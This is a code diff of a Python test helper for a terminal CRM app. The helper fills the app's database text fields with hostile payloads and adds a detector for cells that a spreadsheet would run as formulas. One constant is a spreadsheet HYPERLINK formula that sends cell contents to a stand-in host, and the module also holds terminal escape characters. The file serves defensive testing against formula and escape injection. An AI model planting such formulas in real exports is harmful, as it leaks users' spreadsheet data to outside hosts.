@@ -2,11 +2,12 @@
 
 import json
 import unicodedata
-from collections.abc import Mapping, Sequence
+from collections.abc import Iterable, Mapping, Sequence
 from typing import Final
 
+from crm_tui.core.fields import Value
 from crm_tui.core.i18n import N_
-from crm_tui.store.db import Database
+from crm_tui.store.db import Database, Writer
 
 _ESC, _BEL, _ST = "\x1b", "\x07", "\x1b\\"
 _FORMULA: Final = 'HYPERLINK("http://x.example/?"&A1,"pay")'
@@ -82,6 +83,8 @@ PAYLOADS: Final[Mapping[str, Sequence[str]]] = {
         "宽" * 150,
     ],
 }
+#: What a spreadsheet takes for the beginning of a formula.
+_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 ALL: Final = [text for texts in PAYLOADS.values() for text in texts]
 #: Columns of free text; what the store keeps in a form of its own (days, codes, states) is none.
 COLUMNS: Final = {
@@ -90,13 +93,12 @@ COLUMNS: Final = {
     "customer_merge": ("absorbed_name",),
     "followup": ("assignee", "subject", "note", "outcome"),
     "interaction": ("who", "text"),
-    "ticket_event": ("actor", "reason", "note"),
+    "ticket_event": ("actor", "note"),
     "ticket": (
         "subject",
         "words",
         "person",
         "channel",
-        "category",
         "place",
         "assignee",
         "helpers",
@@ -104,7 +106,7 @@ COLUMNS: Final = {
         "cause",
         "lesson",
     ),
-    "sale": ("receipt", "category", "staff", "channel", "country", "region", "city", "note"),
+    "sale": ("category", "staff", "channel", "country", "region", "city", "note"),
     "payment": ("method", "reference", "note"),
     "movement": ("note",),
     "consent": ("source",),
@@ -124,7 +126,6 @@ COLUMNS: Final = {
         "contact",
         "industry",
         "business_mode",
-        "first_cooperation",
         "source",
         "channel",
         "owner",
@@ -135,22 +136,66 @@ COLUMNS: Final = {
         "note",
     ),
     "product": ("name", "category", "subcategory", "unit", "barcode", "note"),
+    "expense": ("source", "channel", "note"),
+    "followup_instance": ("outcome",),
+    "month_close": ("closed_by",),
+    "batch": ("file",),
+    "rejected_row": ("column", "value"),
+    "mapping": ("name",),
+    "saved_report": ("name",),
+    "report_set": ("name",),
 }
+#: What records are called by and lines are put together by, of every so many rows only: tests name the others.
+CODES: Final = {
+    "customer": ("code", 9),
+    "product": ("sku", 9),
+    "ticket": ("number", 9),
+    "custom_field": ("name", 1),
+    "sale": ("receipt", 97),
+}
+#: What a shop may lack.
+LACKING: Final[Mapping[str, Mapping[str, Value]]] = {
+    "saved_report": {"name": "s", "report": "monthly", "params": "{}"},
+    "report_set": {"name": "s", "reports": "[]"},
+    "mapping": {"noun": "sales", "name": "m", "fields": "{}"},
+    "payer": {"customer_id": 1, "key": "k", "name": "p"},
+    "waiting_payment": {"day": "2024-05-14", "amount": 100, "state": "waiting", "identity": "i", "occurrence": 1},
+    "customer_merge": {"survivor_id": 1, "absorbed_id": 999, "absorbed_code": "C9", "absorbed_name": "n", "op_id": 1},
+}
+#: What may be there once only stays as it is where it would be there twice.
+_ONCE: Final = {"customer_tag": "OR IGNORE"}
+#: Of the largest tables not every row: that takes seconds, and no more of it is seen.
+_STEP: Final = {"sale": 3, "movement": 3}
+_CHOSEN: Final = "json_extract(:texts, '$[' || ((id + {at} * 11) % :count) || ']')"
 
 
 def plant(db: Database, texts: Sequence[str] = ALL) -> None:
-    """Every free text of every record becomes one of the texts; what may be there once only stays as it is."""
+    """Every free text of every record becomes one of the texts."""
     from crm_tui.store import search
 
-    chosen = "json_extract(:texts, '$[' || ((id * 7 + :at * 3) % :count) || ']')"
     with db.write("settings", N_("Settings")) as w:
+        for table, values in LACKING.items():
+            w.insert(table, values)
         for table, columns in COLUMNS.items():
-            for at, name in enumerate(columns):
-                sql = f"UPDATE OR IGNORE {table} SET {name} = {chosen}"
-                w.execute(sql, texts=json.dumps(texts), at=at, count=len(texts))
-        w.execute("UPDATE operation SET actor = :actor", actor=texts[0])
+            chosen = ", ".join(f"{name} = {_CHOSEN.format(at=at)}" for at, name in enumerate(columns))
+            _put(
+                w,
+                f"UPDATE {_ONCE.get(table, '')} {table} SET {chosen} WHERE id % :step = 0",
+                texts,
+                step=_STEP.get(table, 1),
+            )
+        for table, (name, step) in CODES.items():
+            sql = f"UPDATE OR IGNORE {table} SET {name} = {_CHOSEN.format(at=0)} WHERE id % :step = :step - 1"
+            _put(w, sql, texts, step=step)
+        params = f"json_group_object(key, iif(type = 'text', {_CHOSEN.format(at=1)}, json(value)))"
+        _put(w, f"UPDATE operation SET actor = :first, params = (SELECT {params} FROM json_each(params))", texts,
+             first=texts[0])  # fmt: skip
         w.execute("UPDATE setting SET value = :name WHERE name = 'shop.name'", name=texts[-1])
         search.rebuild(w)
+
+
+def _put(w: Writer, sql: str, texts: Sequence[str], **params: Value) -> None:
+    w.execute(sql, texts=json.dumps(texts), count=len(texts), **params)
 
 
 def not_for_a_terminal(text: str) -> set[str]:
@@ -160,3 +205,16 @@ def not_for_a_terminal(text: str) -> set[str]:
 
 def _is_bad(char: str) -> bool:
     return unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or char == "\ufeff"
+
+
+def formulas(cells: Iterable[str]) -> list[str]:
+    """The cells that a spreadsheet would run; numbers are none."""
+    return [cell for cell in cells if cell.startswith(_STARTS) and not _is_number(cell)]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
